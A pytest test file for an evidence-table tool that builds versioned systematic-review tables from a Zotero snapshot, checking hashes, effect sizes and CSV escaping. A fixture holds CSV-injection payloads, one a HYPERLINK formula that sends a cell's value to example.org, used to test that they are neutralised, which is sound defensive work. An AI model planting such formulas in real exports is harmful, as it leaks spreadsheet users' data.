"""The evidence base: tables derived from the bundled snapshot, traceable to the seed, versioned."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import numpy as np
import pytest
from conftest import GOOD_NOTE, ROOT, note, parent

import evidencebook as eb


def _seed(name: str) -> dict[str, dict[str, str]]:
    with (ROOT / "evidence" / "seed" / name).open(encoding="utf-8") as f:
        return {row["id"]: row for row in csv.DictReader(f)}


@pytest.fixture(scope="module")
def evidence() -> eb.Evidence:
    return eb.load_evidence(eb.load_settings(ROOT))


def test_bundled_evidence_counts(evidence: eb.Evidence) -> None:
    counts = evidence.manifest["counts"]
    assert counts == {**counts, "studies": 42, "included": 42, "outcomes": 99, "effect_estimates": 37,
                      "policy_facts": 195, "regions": 52, "coding_errors": 0}
    assert len(evidence.outcomes) == 99 and len(evidence.policy) == 195 and len(evidence.regions) == 52


def test_every_seed_number_is_carried_over_unchanged(evidence: eb.Evidence) -> None:
    seed = _seed("outcomes.csv")
    findings = evidence.outcomes.set_index("finding_id")
    assert set(seed) <= set(findings.index)
    for finding_id, row in seed.items():
        got = findings.loc[finding_id]
        assert got["quote"] == row["quote"]
        if str(got["computed_from"]) in ("2x2 counts", "means and SDs"):  # computed from the seed's per-arm data
            assert row["mean_peer" if got["computed_from"] == "means and SDs" else "events_peer"] != "", finding_id
        elif pd.notna(got["estimate"]):
            assert (got["estimate"], got["ci_low"], got["ci_high"]) == tuple(
                float(row[c]) for c in ("estimate", "ci_low", "ci_high")), finding_id
        else:  # narrative: its statistic, if any, is kept verbatim
            assert row["estimate"] in got["reported_statistic"]


def test_no_estimate_without_a_ci_and_narrative_rows_stay_narrative(evidence: eb.Evidence) -> None:
    o = evidence.outcomes
    has = o[["estimate", "ci_low", "ci_high"]].notna()
    assert (has.all(axis=1) | ~has.any(axis=1)).all()
    assert (o.loc[~has["estimate"], "measure"] == "narrative").all()
    landers = o.set_index("finding_id").loc["O41"]  # odds of 1.345 without a CI
    assert pd.isna(landers["estimate"]) and "1.345" in landers["reported_statistic"]


def test_every_policy_fact_keeps_its_source_and_quote(evidence: eb.Evidence) -> None:
    seed = _seed("state_policy.csv")
    facts = evidence.policy.set_index("fact_id")
    assert set(facts.index) == set(seed)
    for fact_id, row in seed.items():
        assert (facts.loc[fact_id, "quote"], facts.loc[fact_id, "source_url"], facts.loc[fact_id, "as_of"]) == (
            row["quote"], row["source_url"], row["as_of"])


def test_secondary_and_low_confidence_are_flagged(evidence: eb.Evidence) -> None:
    o = evidence.outcomes.set_index("finding_id")
    assert o.loc["O02", "secondary"] and not o.loc["O11", "secondary"]
    low = set(evidence.studies.loc[evidence.studies["confidence"] == "low", "citation_key"])
    assert {"peck2023captured", "egmose2023effectiveness"} <= low


def test_rebuild_of_unchanged_snapshot_writes_nothing(project: eb.Settings) -> None:
    before = eb.load_evidence(project).manifest
    report = eb.build_evidence(project)
    assert report.changed == [] and report.manifest == before


def _build_validates(project: eb.Settings, package: Path = ROOT) -> bool:
    """Whether a build in a fresh process, with the package at ``package``, validated the tables.

    Validating imports pandera and nothing else in a build does (the rebuild that changes nothing skips it):
    seen from outside, whatever module calls the schemas."""
    code = ("import sys, evidencebook as eb; eb.build_evidence(eb.load_settings(sys.argv[1])); "
            "print('pandera' in sys.modules)")
    run = subprocess.run([sys.executable, "-c", code, str(project.root)], capture_output=True, text=True,
                         check=True, cwd=project.root, env={**os.environ, "PYTHONPATH": str(package)})
    return {"True": True, "False": False}[run.stdout.strip()]


def test_unchanged_tables_are_validated_once_per_schema_code(project: eb.Settings, tmp_path_factory) -> None:
    import shutil

    assert _build_validates(project)  # nothing kept yet
    assert not _build_validates(project)  # the same tables, already validated by these schemas
    # What is kept is keyed on all of the package's code: after an edit (stricter schemas, say), the same
    # tables are validated again.
    edited = tmp_path_factory.mktemp("edited-package")
    shutil.copytree(ROOT / "evidencebook", edited / "evidencebook", ignore=shutil.ignore_patterns("__pycache__"))
    with (edited / "evidencebook" / "_schemas.py").open("a", encoding="utf-8") as f:
        f.write("\n# an edit to the schemas' module\n")
    assert _build_validates(project, edited)
    assert not _build_validates(project, edited)


def test_a_change_bumps_the_version_and_a_bad_note_loses_nothing_else(project: eb.Settings) -> None:
    version = eb.load_evidence(project).manifest["evidence_version"]
    snapshot = eb.read_snapshot(project.snapshot)
    bad = [*GOOD_NOTE[:7], "outcome: x", "domain: hope", "estimate: oops", "quote: q"]
    items = [*snapshot.items, parent("AAAAAAAA"), note("NNNNNNNN", "AAAAAAAA", bad)]
    report = eb.build_evidence(project, eb.Snapshot(snapshot.library, items), today=dt.date(2030, 1, 2))
    assert report.manifest["evidence_version"] == version + 1 and report.manifest["date"] == "2030-01-02"
    assert [(p.item_key, p.line, p.field) for p in report.problems if p.severity == "error"] == [("NNNNNNNN", 10, "estimate")]
    evidence = eb.load_evidence(project)
    assert len(evidence.outcomes) == 99 and "AAAAAAAA" in set(evidence.studies["study_id"])
    assert evidence.problems.loc[evidence.problems["severity"] == "error", "item_key"].tolist() == ["NNNNNNNN"]


def test_hand_edited_table_is_caught_and_named(project: eb.Settings) -> None:
    path = project.evidence / "outcomes.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("-0.24", "-0.42", 1), encoding="utf-8")
    with pytest.raises(eb.EvidenceError, match=r"outcomes\.csv: content does not match the manifest"):
        eb.load_evidence(project)


@pytest.mark.parametrize("name", ["studies.csv", "manifest.json"])
def test_missing_file_is_named(project: eb.Settings, name: str) -> None:
    (project.evidence / name).unlink()
    with pytest.raises(eb.EvidenceError, match=name.replace(".", r"\.") + ": missing"):
        eb.load_evidence(project)


@pytest.mark.parametrize("text", ["{", "[]", '{"evidence_version": 8}'])
def test_corrupt_manifest_is_named(project: eb.Settings, text: str) -> None:
    (project.evidence / "manifest.json").write_text(text, encoding="utf-8")
    for read in (eb.load_evidence, eb.read_manifest):  # one reader: the same sentence wherever it is read
        with pytest.raises(eb.EvidenceError, match=r"manifest\.json: corrupt"):
            read(project)


def test_corrupt_snapshot_leaves_tables_untouched(project: eb.Settings) -> None:
    def files() -> dict[str, bytes]:
        return {p.name: p.read_bytes() for p in project.evidence.glob("*.*") if p.name != ".lock"}

    before = files()
    victim = next((project.snapshot / "items").glob("*.json"))
    victim.write_text("[]", encoding="utf-8")
    with pytest.raises(eb.EvidenceError, match=victim.name):
        eb.build_evidence(project)
    assert files() == before


def test_references_bib_has_an_entry_per_study(evidence: eb.Evidence) -> None:
    bib = (ROOT / "evidence/references.bib").read_text(encoding="utf-8")
    for key in evidence.studies["citation_key"]:
        assert f"{{{key}," in bib
    assert "@article{lloydevans2014systematic," in bib


def test_manifest_hashes_match_files() -> None:
    manifest = json.loads((ROOT / "evidence/manifest.json").read_text(encoding="utf-8"))
    import hashlib
    for name, digest in manifest["files"].items():
        assert hashlib.sha256((ROOT / "evidence" / name).read_bytes()).hexdigest() == digest, name


def test_import_of_the_seed_is_reproducible(tmp_path: Path) -> None:
    """Re-running the seed import yields the committed snapshot byte for byte."""
    import runpy
    main = runpy.run_path(str(ROOT / "scripts" / "import_seed.py"), run_name="import_seed")["main"]
    main(ROOT / "evidence" / "seed", tmp_path / "zotero")
    committed = sorted((ROOT / "evidence" / "zotero").rglob("*.json"))
    assert len(committed) == 379
    for path in committed:
        assert (tmp_path / "zotero" / path.relative_to(ROOT / "evidence" / "zotero")).read_bytes() == path.read_bytes()


def test_a_library_with_no_findings_yet_still_builds(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[tool.evidencebook]\nlibrary_id = 0\n", encoding="utf-8")
    settings = eb.load_settings(tmp_path)
    lines = [*GOOD_NOTE[:7], "outcome: x", "domain: hope"]  # its only finding lacks a quote
    report = eb.build_evidence(settings, eb.Snapshot({"version": 1}, [parent("AAAAAAAA"), note("NNNNNNNN", "AAAAAAAA", lines)]))
    assert report.manifest["counts"]["outcomes"] == 0 and report.manifest["counts"]["studies"] == 1
    assert [p.field for p in report.problems] == ["quote"]
    assert len(eb.load_evidence(settings).outcomes) == 0


def test_every_version_is_kept_readable_and_checked(project: eb.Settings) -> None:
    current = eb.load_evidence(project).manifest["evidence_version"]
    assert eb.evidence_versions(project) == list(range(1, current + 1))
    snapshot = eb.read_snapshot(project.snapshot)
    items = [*snapshot.items, parent("AAAAAAAA"), note("NNNNNNNN", "AAAAAAAA", GOOD_NOTE)]
    eb.build_evidence(project, eb.Snapshot(snapshot.library, items), today=dt.date(2030, 1, 2))
    assert eb.evidence_versions(project) == list(range(1, current + 2))
    first, second = eb.load_version(project, current), eb.load_version(project, current + 1)
    assert len(second.outcomes) == len(first.outcomes) + 1 and "T1" in set(second.outcomes["finding_id"])
    assert second.manifest == eb.load_evidence(project).manifest
    kept = project.evidence / "versions" / "v0001" / "outcomes.csv"
    kept.write_text(kept.read_text(encoding="utf-8").replace("-0.24", "-0.42", 1), encoding="utf-8")
    with pytest.raises(eb.EvidenceError, match=r"v0001/outcomes\.csv: content does not match"):
        eb.load_version(project, 1)
    missing = current + 2  # one past the version this test made
    with pytest.raises(eb.EvidenceError, match=f"evidence version {missing} is not kept"):
        eb.load_version(project, missing)


NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
FORMULAS = {"title": '=HYPERLINK("https://example.org/?"&A1,"Click")', "publicationTitle": "@SUM(1+1)",
            "quote": "-leading dash text", "design": "+1 design", "population": "'=already quoted once",
            "reported_statistic": "-0.24"}


def test_text_cells_a_spreadsheet_would_run_are_neutralised_and_read_back_verbatim(project: eb.Settings) -> None:
    """OWASP's CSV injection rule in every published table and archive; the project's readers undo it."""
    snapshot = eb.read_snapshot(project.snapshot)
    current = eb.load_evidence(project).manifest["evidence_version"]
    lines = [*GOOD_NOTE[:3], f"design: {FORMULAS['design']}", f"population: {FORMULAS['population']}",
             *GOOD_NOTE[4:14], f"quote: {FORMULAS['quote']}",
             "# Outcome T2", "outcome: satisfaction", "domain: hope", "measure: narrative",
             f"reported_statistic: {FORMULAS['reported_statistic']}", "quote: satisfaction was -0.24 lower"]
    items = [*snapshot.items, note("NNNNNNNN", "AAAAAAAA", lines),
             parent("AAAAAAAA", title=FORMULAS["title"], publicationTitle=FORMULAS["publicationTitle"])]
    report = eb.build_evidence(project, eb.Snapshot(snapshot.library, items), today=dt.date(2030, 1, 2))
    assert [p for p in report.problems if p.severity == "error"] == []
    published = [project.evidence / name for name in ("studies.csv", "outcomes.csv")] + [
        project.evidence / "versions" / f"v{current + 1:04d}" / name for name in ("studies.csv", "outcomes.csv")]
    for path in published:
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not NUMBER.fullmatch(c)]
        assert formulas == [], path  # -0.24 stays a number
    written = (project.evidence / "outcomes.csv").read_text(encoding="utf-8")
    assert "'-leading dash text" in written and ",-0.24," in written  # the text cell quoted, the number kept
    assert "''=already quoted once" in (project.evidence / "studies.csv").read_text(encoding="utf-8")
    for loaded in (eb.load_evidence(project), eb.load_version(project, current + 1)):
        study = loaded.studies.set_index("study_id").loc["AAAAAAAA"]
        assert (study["title"], study["journal"]) == (FORMULAS["title"], FORMULAS["publicationTitle"])
        assert (study["design"], study["population"]) == (FORMULAS["design"], FORMULAS["population"])
        findings = loaded.outcomes.set_index("finding_id")
        assert findings.loc["T1", "quote"] == FORMULAS["quote"]
        assert findings.loc["T2", "reported_statistic"] == FORMULAS["reported_statistic"]
        assert (findings["ci_high"] < 0).any()  # numeric columns read as numbers, negative ones too
    assert "AAAAAAAA" in report.changes["studies"]["added"]  # the changelog names studies by item key
    assert report.changes["citation_keys"]["AAAAAAAA"] == \
        eb.load_evidence(project).studies.set_index("study_id").loc["AAAAAAAA", "citation_key"]


@pytest.mark.parametrize("cell, written", [
    ("=1+1", "'=1+1"), ("+1 555 0100", "'+1 555 0100"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "\"'\rx\""), ("'=x", "''=x"), ("''+x", "'''+x"),  # a quote already there gets one more: reversible
    ("'plain", "'plain"), ("plain", "plain"), ("", ""), ("'", "'"), ("=", "'="), ("-", "'-"),
    ("-0.24", "-0.24"), ("+1", "+1"), ("1e-3", "1e-3"), ("-.5E+2", "-.5E+2"),  # numbers stay numbers
    ("a\rb", "\"a\rb\""),  # a bare carriage return ended the row for every reader
])
def test_the_csv_rule_quotes_what_a_spreadsheet_would_run_and_is_undone_exactly(cell: str, written: str) -> None:
    from evidencebook._files import read_csv, write_csv

    text = write_csv(pd.DataFrame({"text": [cell], "number": [-0.24]}))
    assert text == f"text,number\n{written},-0.24\n"
    assert read_csv(text)["text"].tolist() == [cell]


# --- quarantine: one item never harms the others ------------------------------------------------------------


def _with(project: eb.Settings, *items: dict) -> eb.BuildReport:
    snapshot = eb.read_snapshot(project.snapshot)
    return eb.build_evidence(project, eb.Snapshot(snapshot.library, [*snapshot.items, *items]),
                             today=dt.date(2030, 1, 2))


def test_a_count_too_large_for_the_tables_is_reported_and_everything_else_syncs(project: eb.Settings) -> None:
    lines = [*GOOD_NOTE, "n_participants: 99999999999999999999"]
    items = (parent("AAAAAAAA"), note("NNNNNNNN", "AAAAAAAA", lines))
    report = _with(project, *items)
    assert [(p.item_key, p.line, p.field) for p in report.problems if p.item_key == "NNNNNNNN"] == [
        ("NNNNNNNN", len(lines), "n_participants")]
    evidence = eb.load_evidence(project)
    assert len(evidence.outcomes) == 99 and "AAAAAAAA" in set(evidence.studies["study_id"])
    assert _with(project, *items).changed == []  # and the next sync still works


def test_three_items_whose_keys_collide_after_the_suffix_still_sync(project: eb.Settings) -> None:
    items = [parent("AAAAAAAA", citationKey="k-cccccccc"), parent("BBBBBBBB", citationKey="k"),
             parent("CCCCCCCC", citationKey="k")]
    _with(project, *items)
    keys = eb.load_evidence(project).studies["citation_key"]
    assert keys.is_unique and {"k", "k-cccccccc"} <= set(keys)


def _study(project: eb.Settings, study_id: str) -> dict:
    studies = eb.load_evidence(project).studies
    return studies[studies["study_id"] == study_id].iloc[0].to_dict()


def test_a_new_item_reusing_a_published_finding_id_is_reported_and_left_out(project: eb.Settings) -> None:
    before = eb.load_evidence(project).outcomes.set_index("finding_id").loc["O01"]
    reuse = [*GOOD_NOTE[:6], "# Outcome O01", *GOOD_NOTE[7:]]
    # added to Zotero long before the others, and its key sorts first: publication still wins
    report = _with(project, parent("AAAAAAAA", dateAdded="2001-01-01T00:00:00Z"), note("NNNNNNNN", "AAAAAAAA", reuse))
    (error,) = [p for p in report.problems if p.severity == "error"]
    assert (error.item_key, error.line, error.field) == ("NNNNNNNN", 7, "id")  # the newcomer's note and line
    assert f"already used by item {before['study_id']}" in error.message and "AAAAAAAA" in error.message
    after = eb.load_evidence(project).outcomes.set_index("finding_id").loc["O01"]
    assert after["study_id"] == before["study_id"] and after["quote"] == before["quote"]


def test_a_new_item_pinning_a_published_citation_key_does_not_take_it_over(project: eb.Settings) -> None:
    owner = _study(project, "P77L5BEQ")
    assert owner["citation_key"] == "coreSouthernOregon"
    report = _with(project, parent("AAAAAAAA", citationKey="coreSouthernOregon", dateAdded="2001-01-01T00:00:00Z"))
    assert _study(project, "P77L5BEQ")["citation_key"] == "coreSouthernOregon"
    assert _study(project, "AAAAAAAA")["citation_key"] == "tester2020synthetic"
    (error,) = [p for p in report.problems if p.severity == "error"]
    assert (error.item_key, error.field) == ("AAAAAAAA", "citationKey") and "P77L5BEQ" in error.message


def test_a_new_item_with_the_same_generated_key_gets_the_suffix_not_the_published_one(project: eb.Settings) -> None:
    assert _study(project, "XN33W4LG")["citation_key"] == "lloydevans2014systematic"
    twin = parent("AAAAAAAA", title="Systematic review of peer support", date="2014",
                  creators=[{"creatorType": "author", "lastName": "Lloyd-Evans", "firstName": "B"}])
    report = _with(project, twin)
    assert _study(project, "XN33W4LG")["citation_key"] == "lloydevans2014systematic"  # no rename
    assert _study(project, "AAAAAAAA")["citation_key"] == "lloydevans2014systematic-aaaaaaaa"
    assert [(p.item_key, p.severity) for p in report.problems if p.field == "citationKey"] == [("AAAAAAAA", "warning")]
    bib = (project.evidence / "references.bib").read_text(encoding="utf-8")
    assert "{lloydevans2014systematic," in bib and "{lloydevans2014systematic-aaaaaaaa," in bib


def test_a_study_in_a_substate_region_counts_for_its_state_and_region() -> None:
    substate = {"southern-oregon": {"name": "Southern Oregon", "state": "OR", "aliases": []}}
    lines = ["Extraction", "# Study", "study_type: primary", "region: Southern Oregon"]
    coding = eb.code_items([parent("AAAAAAAA"), note("NNNNNNNN", "AAAAAAAA", lines)],
                           regions=eb.region_records(substate))
    tables = eb.derive_tables(coding, substate)
    assert tables["studies.csv"]["state_codes"].tolist() == ["OR"]
    local = tables["regions.csv"].set_index("region_id")["n_local_studies"]
    assert (local["southern-oregon"], local["oregon"], local["texas"]) == (1, 1, 0)


def _oregon_evidence(*studies: tuple[str, str]) -> tuple[dict[str, pd.DataFrame], eb.Evidence]:
    """The tables (and the evidence a brief reads) of a library with one study per (key, place line)."""
    substate = {"southern-oregon": {"name": "Southern Oregon", "state": "OR", "aliases": []}}
    items = [item for n, (key, place) in enumerate(studies) for item in (
        parent(key), note(f"NOTE{n:04d}", key, ["Extraction", "# Study", "study_type: primary", place]))]
    tables = eb.derive_tables(eb.code_items(items, regions=eb.region_records(substate)), substate)
    evidence = eb.Evidence(tables["studies.csv"], tables["outcomes.csv"], tables["state_policy.csv"],
                           tables["regions.csv"], tables["problems.csv"], {})
    return tables, evidence


def test_the_briefs_index_counts_the_studies_the_brief_lists() -> None:
    # One study in Southern Oregon, one elsewhere in Oregon: the sub-state brief lists both (it inherits its
    # state's studies, its own first), so the Briefs index (regions.csv) must count both too (it counted 1).
    tables, evidence = _oregon_evidence(("AAAAAAAA", "region: Southern Oregon"), ("BBBBBBBB", "us_state: Oregon"))
    counted = tables["regions.csv"].set_index("region_id")["n_local_studies"]
    for region_id in ("southern-oregon", "oregon", "texas"):
        listed = eb.Brief(eb.resolve_region(region_id, evidence.regions), evidence).local_studies()
        assert counted[region_id] == listed["report_of"].nunique(), region_id
    assert (counted["southern-oregon"], counted["oregon"]) == (2, 2)
    so = eb.Brief(eb.resolve_region("southern-oregon", evidence.regions), evidence).local_studies()
    assert so["study_id"].tolist() == ["AAAAAAAA", "BBBBBBBB"] and so["in_region"].tolist() == [True, False]


@pytest.mark.parametrize("tags", [None, ("screen:FT:exclude:wrong population",)])
def test_a_library_with_no_included_study_counts_none_in_every_region(tags: tuple[str, ...] | None) -> None:
    items = [] if tags is None else [parent("AAAAAAAA", tags=tags)]  # found by the fuzzer: a KeyError
    regions = eb.derive_tables(eb.code_items(items), {})["regions.csv"]
    assert len(regions) == 51 and (regions["n_local_studies"] == 0).all()


def test_a_region_typed_by_its_name_attaches_the_study_to_the_region() -> None:
    tables, evidence = _oregon_evidence(("AAAAAAAA", "region: Southern Oregon"))
    assert tables["studies.csv"]["region"].tolist() == ["southern-oregon"] and len(tables["problems.csv"]) == 0
    so = eb.Brief(eb.resolve_region("southern-oregon", evidence.regions), evidence).local_studies()
    assert so["in_region"].tolist() == [True]


def test_an_unknown_region_is_a_problem_naming_the_item_and_field() -> None:
    tables, _ = _oregon_evidence(("AAAAAAAA", "region: Northern Oregon"))
    (problem,) = tables["problems.csv"].to_dict("records")
    assert (problem["item_key"], problem["field"], problem["severity"]) == ("NOTE0000", "region", "error")
    assert "unknown region 'Northern Oregon'" in problem["message"] and "item AAAAAAAA" in problem["message"]
    assert tables["studies.csv"]["region"].tolist() == [""]


def test_a_carriage_return_in_a_title_is_kept_and_the_tables_still_match_their_hashes(project: eb.Settings) -> None:
    item = parent("AAAAAAAA", title="Peer support\r\nin rural\rOregon")
    _with(project, item)
    evidence = eb.load_evidence(project)  # was: "studies.csv: content does not match the manifest"
    assert evidence.studies.set_index("study_id").loc["AAAAAAAA", "title"] == "Peer support\r\nin rural\rOregon"
    assert _with(project, item).changed == []


def test_a_table_damaged_into_invalid_utf8_is_named_not_a_traceback(project: eb.Settings) -> None:
    path = project.evidence / "studies.csv"
    path.write_bytes(path.read_bytes() + b"\xff\xfe")
    with pytest.raises(eb.EvidenceError, match=r"studies\.csv: content does not match the manifest"):
        eb.load_evidence(project)
    eb.build_evidence(project)  # and a rebuild from the snapshot repairs it
    eb.load_evidence(project)


# --- raw data per arm: the effect computed at sync, as metafor's escalc does ----------------------------------

BCG = [  # dat.bcg (Colditz et al. 1994): tpos, tneg, cpos, cneg, and metafor's escalc(measure="RR") yi, vi
    (4, 119, 11, 128, -0.8893, 0.3256), (6, 300, 29, 274, -1.5854, 0.1946), (3, 228, 11, 209, -1.3481, 0.4154),
    (62, 13536, 248, 12619, -1.4416, 0.0200), (33, 5036, 47, 5761, -0.2175, 0.0512),
    (180, 1361, 372, 1079, -0.7861, 0.0069), (8, 2537, 10, 619, -1.6209, 0.2230),
    (505, 87886, 499, 87892, 0.0120, 0.0040), (29, 7470, 45, 7232, -0.4694, 0.0564),
    (17, 1699, 65, 1600, -1.3713, 0.0730), (186, 50448, 141, 27197, -0.3394, 0.0124),
    (5, 2493, 3, 2338, 0.4459, 0.5325), (27, 16886, 29, 17825, -0.0173, 0.0714)]
NORMAND = [  # dat.normand1999 (metadat's data-raw/dat.normand1999.txt): n1, m1, sd1, n2, m2, sd2
    (155, 55, 47, 156, 75, 64), (31, 27, 7, 32, 29, 4), (75, 64, 17, 71, 119, 29), (18, 66, 20, 18, 137, 48),
    (8, 14, 8, 13, 18, 11), (57, 19, 7, 52, 18, 4), (34, 52, 45, 33, 41, 34), (110, 21, 16, 183, 31, 27),
    (60, 30, 27, 52, 23, 20)]


def _raw_notes(rows: list[list[str]], measure: str) -> list[dict]:
    items = []
    for i, fields in enumerate(rows):
        key = "A" + "".join("23456789ABCDEFGHJKMNPQRSTUVWXYZ"[int(d)] for d in f"{i:07d}")
        lines = ["Extraction", "# Study", "study_type: primary", f"# Outcome R{i}", "outcome: o", "domain: other",
                 f"measure: {measure}", "better: lower", *fields, "quote: q"]
        items += [parent(key, citationKey=f"trial{i}"), note("N" + key[1:], key, lines)]
    return items


def _derived(items: list[dict]) -> pd.DataFrame:
    coding = eb.code_items(items)
    assert [p for p in coding.problems if p.severity == "error"] == []
    return eb.derive_tables(coding, {})["outcomes.csv"].sort_values("finding_id", key=lambda c: c.str[1:].astype(int))


def test_two_by_two_counts_in_a_note_give_metafors_log_risk_ratios() -> None:
    rows = [[f"events_peer: {a}", f"n_peer: {a + b}", f"events_comparison: {c}", f"n_comparison: {c + d}"]
            for a, b, c, d, _, _ in BCG]
    out = _derived(_raw_notes(rows, "RR"))
    yi = np.log(out["estimate"].to_numpy())
    vi = ((np.log(out["ci_high"]) - np.log(out["ci_low"])).to_numpy() / (2 * eb.Z95)) ** 2
    np.testing.assert_allclose(yi, [r[4] for r in BCG], atol=5e-5)
    np.testing.assert_allclose(vi, [r[5] for r in BCG], atol=5e-5)
    assert set(out["computed_from"]) == {"2x2 counts"} and out["events_peer"].tolist()[:2] == [4, 6]


def test_means_and_sds_in_a_note_give_the_mean_difference_and_hedges_g() -> None:
    rows = [[f"mean_peer: {m1}", f"sd_peer: {s1}", f"n_peer: {n1}", f"mean_comparison: {m2}",
             f"sd_comparison: {s2}", f"n_comparison: {n2}"] for n1, m1, s1, n2, m2, s2 in NORMAND]
    md = _derived(_raw_notes(rows, "MD"))
    np.testing.assert_allclose(md["estimate"], [m1 - m2 for _, m1, _, _, m2, _ in NORMAND])  # -20, -2, -55, ...
    se = np.array([np.sqrt(s1**2 / n1 + s2**2 / n2) for n1, _, s1, n2, _, s2 in NORMAND])  # escalc's MD variance
    np.testing.assert_allclose((md["ci_high"] - md["ci_low"]) / (2 * eb.Z95), se, rtol=1e-12)
    smd = _derived(_raw_notes(rows, "SMD"))
    engine = eb.continuous_effects("SMD", *zip(*[(m1, s1, n1, m2, s2, n2) for n1, m1, s1, n2, m2, s2 in NORMAND]))
    np.testing.assert_allclose(smd["estimate"], engine["yi"], rtol=1e-12)
    assert set(smd["computed_from"]) == {"means and SDs"}


def test_raw_data_and_a_reported_estimate_must_agree_within_rounding() -> None:
    counts = ["events_peer: 64", "n_peer: 218", "events_comparison: 83", "n_comparison: 216"]  # OR 0.6657
    agree = _raw_notes([[*counts, "estimate: 0.67", "ci_low: 0.44", "ci_high: 1.00"]], "OR")
    coding = eb.code_items(agree)
    tables = eb.derive_tables(coding, {})
    assert tables["outcomes.csv"]["computed_from"].tolist() == ["reported; 2x2 counts agree"]
    assert tables["problems.csv"].empty
    differ = _raw_notes([[*counts, "estimate: 0.60", "ci_low: 0.40", "ci_high: 0.90"]], "OR")
    tables = eb.derive_tables(eb.code_items(differ), {})
    (problem,) = tables["problems.csv"].to_dict("records")
    assert problem["severity"] == "warning" and "differs from 0.666 computed from the 2x2 counts" in problem["message"]
    assert tables["outcomes.csv"]["estimate"].tolist() == [0.60]  # the reported one is used


@pytest.mark.parametrize("fields, message", [
    (["events_peer: 5", "n_peer: 20"], "binary raw data needs events_peer, n_peer, events_comparison, n_comparison"),
    (["events_peer: 25", "n_peer: 20", "events_comparison: 3", "n_comparison: 20"], "more events than participants"),
    (["events_peer: 2.5", "n_peer: 20", "events_comparison: 3", "n_comparison: 20"], "is not a whole number"),
    (["mean_peer: 1", "sd_peer: 0", "n_peer: 9", "mean_comparison: 2", "sd_comparison: 1", "n_comparison: 9"],
     "standard deviations must be positive"),
])
def test_incomplete_or_impossible_raw_data_is_one_clear_error(fields: list[str], message: str) -> None:
    coding = eb.code_items(_raw_notes([fields], "RR" if "events_peer" in fields[0] else "MD"))
    errors = [p for p in coding.problems if p.severity == "error"]
    assert len(errors) == 1 and message in errors[0].message and coding.outcomes == []


def test_old_changelog_entries_are_read_in_the_new_shape(project: eb.Settings) -> None:
    # Entries written before the changelog stored ids named studies "KEY (citationkey)": one reader, one shape.
    path = project.evidence / "changelog.json"
    path.write_text(json.dumps([{"evidence_version": 1, "date": "2026-01-01", "zotero_library_version": 1,
                                 "studies": {"added": ["AAAAAAAA (smith2024peer)"], "updated": [], "removed": []},
                                 "outcomes": {"added": ["F1"], "updated": [], "removed": []}}]), encoding="utf-8")
    (entry,) = eb.read_changelog(project)
    assert entry["studies"]["added"] == ["AAAAAAAA"] and entry["citation_keys"] == {"AAAAAAAA": "smith2024peer"}
    assert "AAAAAAAA (smith2024peer)" in eb.whats_new(project)


# --- risk of bias: its own table, the study's overall, the certainty chain -----------------------------------------

ROB2_HIGH = ["# Risk of bias", "tool: RoB 2", "D1: low", "D2: some concerns (open label)", "D3: high (40% lost)",
             "D4: low", "D5: low"]


def test_the_bundled_risk_of_bias_table_exists_with_its_columns_and_no_invented_judgement(evidence: eb.Evidence) -> None:
    from evidencebook._tables import RISK_OF_BIAS_COLUMNS

    text = (ROOT / "evidence" / "risk_of_bias.csv").read_text(encoding="utf-8")
    assert text == ",".join(RISK_OF_BIAS_COLUMNS) + "\n"  # no source in the seed states them per domain
    assert list(evidence.risk_of_bias.columns) == RISK_OF_BIAS_COLUMNS and evidence.risk_of_bias.empty
    assert evidence.manifest["counts"]["risk_of_bias_assessments"] == 0
    assert "risk_of_bias.csv" in evidence.manifest["files"]


def test_risk_of_bias_sections_become_rows_and_the_studys_overall(project: eb.Settings) -> None:
    second = ["# Outcome T2", "outcome: hope", "domain: hope", "measure: narrative", "quote: q",
              "# Risk of bias T2", "tool: RoB 2", *[f"D{n}: low" for n in range(1, 6)], "source: assessed by A. R."]
    report = _with(project, parent("AAAAAAAA"), note("NNNNNNNN", "AAAAAAAA", [*GOOD_NOTE, *ROB2_HIGH, *second]))
    assert [p for p in report.problems if p.item_key == "NNNNNNNN"] == []
    assert "risk_of_bias.csv" in report.changed and report.manifest["counts"]["risk_of_bias_assessments"] == 2
    evidence = eb.load_evidence(project)
    rob = evidence.risk_of_bias
    assert list(rob["domain_id"]) == ["D1", "D2", "D3", "D4", "D5", "overall"] * 2
    assert list(rob["finding_id"]) == [""] * 6 + ["T2"] * 6
    assert rob["note_line"].dtype == "Int64" and int(rob["note_line"].iloc[2]) == 21  # D3, line 21 of the note
    assert set(rob.loc[rob["finding_id"] == "T2", "source"]) == {"assessed by A. R."}
    overall = rob[rob["domain_id"] == "overall"].set_index("finding_id")["judgement"]
    assert overall.to_dict() == {"": "high", "T2": "low"}
    assert _study(project, "AAAAAAAA")["risk_of_bias"] == "high (RoB 2; derived from the domains: worst D3)"


@pytest.mark.parametrize(("column", "value", "check"), [
    ("judgement", "serious", "judgement_from_the_tools_vocabulary"),  # a ROBINS-I word in a RoB 2 row
    ("domain", "confounding", "domain_belongs_to_the_tool"),
    ("tool", "RoB 1", "isin"),
])
def test_the_risk_of_bias_schema_refuses_what_the_tools_do_not_say(column: str, value: str, check: str) -> None:
    coding = eb.code_items([parent("AAAAAAAA"), note("NNNNNNNN", "AAAAAAAA", [*GOOD_NOTE, *ROB2_HIGH])])
    tables = eb.derive_tables(coding, {})
    assert eb.validate_tables(tables).empty
    tables["risk_of_bias.csv"].loc[0, column] = value
    failures = eb.validate_tables(tables)
    assert set(failures["file"]) == {"risk_of_bias.csv"}
    assert any(check in str(c) for c in failures["check"])


def test_the_certainty_chain_reads_the_overall_of_a_risk_of_bias_section(project: eb.Settings) -> None:
    from evidencebook._certainty import certainty_chain

    notes = []
    for key, note_key in (("AAAAAAAA", "NNNNNNNA"), ("BBBBBBBB", "NNNNNNNB")):
        lines = [*GOOD_NOTE[:6], f"# Outcome {key[:2]}", *GOOD_NOTE[7:], *ROB2_HIGH]
        notes += [parent(key), note(note_key, key, lines)]
    _with(project, *notes)
    evidence = eb.load_evidence(project)
